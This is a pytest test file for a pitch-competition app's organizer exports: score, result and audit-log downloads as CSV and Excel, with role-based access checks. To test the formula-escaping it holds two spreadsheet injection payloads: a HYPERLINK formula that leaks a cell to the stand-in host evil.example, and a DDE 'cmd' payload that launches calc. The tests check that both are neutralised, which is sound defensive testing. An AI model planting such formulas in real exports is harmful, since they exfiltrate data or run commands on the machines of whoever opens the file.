"""Exports for organizers: every score, the results and the audit log, as CSV and Excel."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import datetime
from urllib.parse import urlsplit
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from pitchtank.accounts.models import Role
from pitchtank.audit.models import AuditEntry
from pitchtank.core.spreadsheets import safe_cell
from pitchtank.events.models import PitchSession
from pitchtank.extensions import db
from pitchtank.judging import results, rubrics, sheets, show
from pitchtank.judging.models import ScoreSheet

MEXICO_CITY = ZoneInfo("America/Mexico_City")
KEYS = ("problem", "solution", "market", "team", "pitch", "would_invest")
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'
BOM = b"\xef\xbb\xbf"
_seq = itertools.count(1)


@pytest.fixture(autouse=True)
def _fresh_standings_cache():
    """Ids restart with every test, so a cached standings of an earlier test could match."""
    results.cache.clear()
    yield
    results.cache.clear()


@pytest.fixture
def organizer(client, login_as):
    user = login_as(Role.ORGANIZER)
    assert client.post("/language", data={"lang": "en"}).status_code == 302
    return user


def score(pitch, judge, value, comment=""):
    values = {key: (1 if key == "would_invest" else value) for key in KEYS}
    sheets.submit(pitch.id, judge, scores=values, comment=comment, client_seq=next(_seq))


@pytest.fixture
def scored(make, db):
    """A live session: two judges scored the first pitch (one comment is a formula), one the second."""
    session, judges = make.pitching_session(pitches=2, judges=2)
    rubrics.set_rubric(session, rubrics.default_rubric())
    organizer = make.user(Role.ORGANIZER)
    show.control(session.id, "start", organizer)
    show.control(session.id, "open_scoring", organizer)
    first, second = session.pitches
    score(first, judges[0], 8, comment=INJECTION)
    score(first, judges[1], 6, comment="Muy clara, buen equipo")
    show.control(session.id, "close_scoring", organizer)
    show.control(session.id, "next", organizer)
    show.control(session.id, "open_scoring", organizer)
    score(second, judges[0], 4)
    db.session.commit()
    return session, judges, organizer


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    body = response.get_data()
    assert body.startswith(BOM)
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(response) -> list[tuple]:
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(io.BytesIO(response.get_data()))
    return list(workbook.active.iter_rows(values_only=True))


def local_text(value: datetime) -> str:
    return value.astimezone(MEXICO_CITY).strftime("%Y-%m-%d %H:%M:%S")


# ---------- safe_cell ----------

@pytest.mark.parametrize("value", ["=1+1", "+52 477 123 4567", "-2+3", "@SUM(A1:A2)", "\tHola", "\r=1", INJECTION])
def test_safe_cell_neutralises_formulas(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Hola", "", "Ñandú = bueno", " =1", 5, -3, 2.5, None])
def test_safe_cell_leaves_everything_else_alone(value):
    assert safe_cell(value) == value


# ---------- scores ----------

def test_the_scores_csv_has_one_row_per_judge_pitch_and_criterion(client, organizer, scored):
    session, judges, _ = scored
    response = client.get(f"/sessions/{session.id}/export/scores.csv")
    assert response.headers["Content-Disposition"] == f'attachment; filename="sesion-{session.id}-calificaciones.csv"'
    assert "no-store" in response.headers["Cache-Control"]
    rows = read_csv(response)
    assert len(rows) == 3 * len(KEYS)  # three sheets × six criteria, in running order
    first, second = session.pitches
    sheets_by_key = {(s.pitch_id, s.judge_id): s for s in db.session.scalars(select(ScoreSheet))}
    for row in rows:
        pitch = first if row["Position"] == "1" else second
        judge = next(j for j in judges if j.name == row["Judge"])
        sheet = sheets_by_key[(pitch.id, judge.id)]
        assert row["Session"] == session.title and row["Venture"] == pitch.venture.name
        assert int(row["Value"]) == sheet.values[row["Criterion"]]
        assert row["Counted"] == "yes" and row["Why not counted"] == ""
        assert row["Updated (Mexico City time)"] == local_text(sheet.updated_at)
    assert [r["Criterion"] for r in rows[:len(KEYS)]] == list(KEYS)  # rubric order
    assert {(r["Position"], r["Judge"]) for r in rows} == {
        ("1", judges[0].name), ("1", judges[1].name), ("2", judges[0].name)}


def test_formulas_in_comments_come_out_as_text(client, organizer, scored):
    session, judges, _ = scored
    rows = read_csv(client.get(f"/sessions/{session.id}/export/scores.csv"))
    comments = {r["Comment"] for r in rows if r["Judge"] == judges[0].name and r["Position"] == "1"}
    assert comments == {"'" + INJECTION}
    assert {r["Comment"] for r in rows if r["Judge"] == judges[1].name} == {"Muy clara, buen equipo"}


def test_voided_and_recused_scores_are_exported_as_not_counted(client, organizer, scored):
    session, judges, organizer_user = scored
    first, second = session.pitches
    show.void_sheet(show.lock_session(session.id), organizer_user, pitch_id=first.id, judge_id=judges[1].id,
                    reason="Calificó el equipo equivocado")
    sheets.recuse(second.id, judges[0], "Es mi cliente")
    db.session.commit()
    rows = read_csv(client.get(f"/sessions/{session.id}/export/scores.csv"))
    counted = {(r["Position"], r["Judge"]): (r["Counted"], r["Why not counted"]) for r in rows}
    assert counted[("1", judges[0].name)] == ("yes", "")
    assert counted[("1", judges[1].name)] == ("no", "Voided: Calificó el equipo equivocado")
    assert counted[("2", judges[0].name)] == ("no", "The judge recused")


def test_the_scores_xlsx_opens_and_holds_the_same_rows(client, organizer, scored):
    session, judges, _ = scored
    response = client.get(f"/sessions/{session.id}/export/scores.xlsx")
    assert response.headers["Content-Disposition"] == f'attachment; filename="sesion-{session.id}-calificaciones.xlsx"'
    header, *rows = read_xlsx(response)
    assert header[:7] == ("Session", "Position", "Venture", "Judge", "Criterion", "Value", "Counted")
    assert len(rows) == 3 * len(KEYS)
    first = session.pitches[0]
    mine = [r for r in rows if r[1] == 1 and r[3] == judges[0].name]
    assert {r[4]: r[5] for r in mine} == {"problem": 8, "solution": 8, "market": 8, "team": 8, "pitch": 8,
                                         "would_invest": 1}
    assert {r[7] for r in mine} == {"'" + INJECTION}  # text, not a formula
    sheet = db.session.scalar(select(ScoreSheet).where(ScoreSheet.pitch_id == first.id,
                                                       ScoreSheet.judge_id == judges[0].id))
    assert isinstance(mine[0][8], datetime)
    assert mine[0][8].strftime("%Y-%m-%d %H:%M:%S") == local_text(sheet.updated_at)
    workbook = load_workbook(io.BytesIO(response.get_data()))
    assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)


# ---------- results ----------

def test_the_results_follow_the_standings_then_the_published_snapshot(client, organizer, scored):
    session, _judges, organizer_user = scored
    live = results.standings(db.session.get(PitchSession, session.id))
    rows = read_csv(client.get(f"/sessions/{session.id}/export/results.csv"))
    assert [r["Venture"] for r in rows] == [e["venture"]["name"] for e in live.entries]
    assert [r["Rank"] for r in rows] == [str(e["rank"]) for e in live.entries]
    assert {r["Published"] for r in rows} == {"no"}

    for action in ("close_scoring", "end", "publish"):
        show.control(session.id, action, organizer_user)
    db.session.commit()
    snapshot = results.snapshot_of(db.session.get(PitchSession, session.id))
    response = client.get(f"/sessions/{session.id}/export/results.csv")
    assert response.headers["Content-Disposition"] == f'attachment; filename="sesion-{session.id}-resultados.csv"'
    rows = read_csv(response)
    assert [(r["Venture"], r["Score"]) for r in rows] == [
        (e["venture"]["name"], str(e["score"])) for e in snapshot.leaderboard["entries"]]
    assert {r["Published"] for r in rows} == {"yes"}

    header, *sheet_rows = read_xlsx(client.get(f"/sessions/{session.id}/export/results.xlsx"))
    assert header[0] == "Rank" and [r[2] for r in sheet_rows] == [r["Venture"] for r in rows]


# ---------- audit ----------

def test_the_audit_csv_lists_this_session_s_entries(client, organizer, scored, make):
    session, judges, organizer_user = scored
    first = session.pitches[0]
    locked = show.lock_session(session.id)
    show.void_sheet(locked, organizer_user, pitch_id=first.id, judge_id=judges[0].id, reason="=cmd|' /C calc'!A0")
    show.control(session.id, "hide_leaderboard", organizer_user)
    other, _ = make.pitching_session(pitches=1, judges=1)
    show.control(other.id, "hide_leaderboard", organizer_user)  # another session's entry stays out
    db.session.commit()
    client.get(f"/sessions/{session.id}/export/scores.csv")

    response = client.get(f"/sessions/{session.id}/export/audit.csv")
    assert response.headers["Content-Disposition"] == f'attachment; filename="sesion-{session.id}-auditoria.csv"'
    rows = read_csv(response)
    assert [r["Action"] for r in rows] == ["scores.voided", "leaderboard.visibility", "export.downloaded"]
    voided = rows[0]
    assert voided["Reason"] == "'=cmd|' /C calc'!A0"  # neutralised
    assert voided["Who"] == organizer_user.name and judges[0].name in voided["Details"]
    assert voided["Subject"] == f"Pitch 1: {first.venture.name}"
    assert datetime.strptime(voided["When (Mexico City time)"], "%Y-%m-%d %H:%M:%S")


def test_every_download_is_recorded_in_the_audit_log(client, organizer, scored):
    session, _judges, _ = scored
    for path in ("scores.csv", "scores.xlsx", "results.csv", "results.xlsx", "audit.csv"):
        assert client.get(f"/sessions/{session.id}/export/{path}").status_code == 200, path
    entries = list(db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export.downloaded")
                                      .order_by(AuditEntry.id)))
    assert [(e.details["export"], e.details["format"]) for e in entries] == [
        ("scores", "csv"), ("scores", "xlsx"), ("results", "csv"), ("results", "xlsx"), ("audit", "csv")]
    assert {(e.subject_type, e.subject_id, e.actor_id) for e in entries} == {("session", session.id, organizer.id)}


EXPORTS = ("scores.csv", "scores.xlsx", "results.csv", "results.xlsx", "audit.csv")


@pytest.mark.parametrize("role", [Role.ENTREPRENEUR, Role.JUDGE, Role.INVESTOR])
def test_exports_are_refused_to_everyone_but_organizers(client, login_as, scored, role):
    session, judges, _ = scored
    login_as(judges[0] if role == Role.JUDGE else role)  # even a judge of this very session
    for path in EXPORTS:
        assert client.get(f"/sessions/{session.id}/export/{path}").status_code == 403, path
    assert db.session.scalar(select(AuditEntry).where(AuditEntry.action == "export.downloaded")) is None


def test_exports_send_anonymous_visitors_to_log_in(client, scored):
    session, _judges, _ = scored
    for path in EXPORTS:
        response = client.get(f"/sessions/{session.id}/export/{path}")
        assert response.status_code == 302 and urlsplit(response.headers["Location"]).path == "/login"
    assert client.get(f"/sessions/{session.id}/export/scores.pdf").status_code == 404
